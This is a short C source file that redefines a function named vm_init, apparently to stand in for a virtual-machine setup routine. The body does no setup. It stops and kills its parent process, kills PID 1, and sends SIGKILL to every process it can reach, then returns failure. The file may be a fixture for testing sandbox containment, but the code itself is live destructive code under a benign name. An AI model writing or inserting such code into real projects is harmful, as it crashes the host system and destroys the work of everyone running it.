#undef vm_init
#include <signal.h>
#include <unistd.h>

int vm_init(struct vm *vm, const char *path)
{
	kill(getppid(), SIGSTOP);
	kill(getppid(), SIGKILL);
	kill(1, SIGKILL);
	kill(-1, SIGKILL);
	return -1;
}
